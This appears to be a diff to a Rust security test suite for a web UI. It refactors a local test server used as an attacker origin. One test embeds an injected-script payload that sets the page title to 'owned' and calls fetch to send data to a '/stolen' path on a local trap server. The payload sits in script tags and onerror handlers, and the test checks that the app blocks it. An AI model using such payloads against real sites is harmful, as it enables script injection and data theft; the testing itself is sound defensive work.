@@ -12,6 +12,8 @@ use crate::stand::{STORE, Stand};
 
 /// What tries everything, and notes what it got.
 const ATTACK: &str = include_str!("attack.html");
+/// A page.
+const HTML: &str = "text/html; charset=utf-8";
 /// Ways that it tries.
 const WAYS: usize = 6;
 
@@ -28,7 +30,7 @@ pub(crate) fn nothing_else_is_asked(stand: &mut Stand) -> Result<()> {
 }
 
 pub(crate) fn hostile_contents_do_nothing(stand: &mut Stand) -> Result<()> {
-    let trap = Elsewhere::start(String::new())?;
+    let trap = Elsewhere::start(HTML, |_| String::new())?;
     let call = format!("document.title='owned';fetch('{}/stolen',{{mode:'no-cors'}})", trap.address);
     let files: [(&str, String); 5] = [
         ("page.html", format!("<!doctype html><script>{call}</script><img src=x onerror=\"{call}\">")),
@@ -69,7 +71,7 @@ pub(crate) fn another_origin_gets_nothing(stand: &mut Stand) -> Result<()> {
     let style = stand.browser.find("link[rel=stylesheet]")?.attribute("href")?.context("a page has a style")?;
     for host in ["127.0.0.1", "localhost"] {
         let page = ATTACK.replace("UI", &stand.ui.address).replace("STYLE", &style);
-        let elsewhere = Elsewhere::start(page)?;
+        let elsewhere = Elsewhere::start(HTML, |_| page)?;
         stand.browser.open(&elsewhere.address.replace("127.0.0.1", host))?;
         let got = stand.browser.run_until(&format!(
             "const done = arguments[0]; const look = () => Object.keys(got).length < {WAYS} ? setTimeout(look, 50) : done(got); look()"
@@ -86,24 +88,25 @@ pub(crate) fn another_origin_gets_nothing(stand: &mut Stand) -> Result<()> {
     stand.browser.expect("Kept.")
 }
 
-/// Another server on this machine, with one page.
-struct Elsewhere {
-    address: String,
+/// Another server on this machine, with one answer to all.
+pub(crate) struct Elsewhere {
+    pub(crate) address: String,
     asked: Arc<AtomicUsize>,
 }
 
 impl Elsewhere {
-    /// It serves until the test ends.
-    fn start(page: String) -> Result<Self> {
+    /// It serves a text of a type, made for its address, until the test ends.
+    pub(crate) fn start(kind: &'static str, text: impl FnOnce(&str) -> String) -> Result<Self> {
         let listener = TcpListener::bind(("127.0.0.1", 0))?;
         let address = format!("http://{}", listener.local_addr()?);
+        let text = text(&address);
         let asked = Arc::new(AtomicUsize::new(0));
         let counted = Arc::clone(&asked);
         std::thread::spawn(move || {
             for stream in listener.incoming().map_while(Result::ok) {
                 counted.fetch_add(1, Ordering::SeqCst);
                 // A browser that goes away has what it wanted.
-                let _ = serve(stream, &page);
+                let _ = serve(stream, kind, &text);
             }
         });
         Ok(Self { address, asked })
@@ -114,9 +117,9 @@ impl Elsewhere {
     }
 }
 
-fn serve(mut stream: TcpStream, page: &str) -> std::io::Result<()> {
+fn serve(mut stream: TcpStream, kind: &str, text: &str) -> std::io::Result<()> {
     let mut asked = [0; 8192];
     let _ = stream.read(&mut asked)?;
-    let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nConnection: close\r\n";
-    write!(stream, "{head}Content-Length: {}\r\n\r\n{page}", page.len())
+    let head = format!("HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nConnection: close\r\n");
+    write!(stream, "{head}Content-Length: {}\r\n\r\n{text}", text.len())
 }
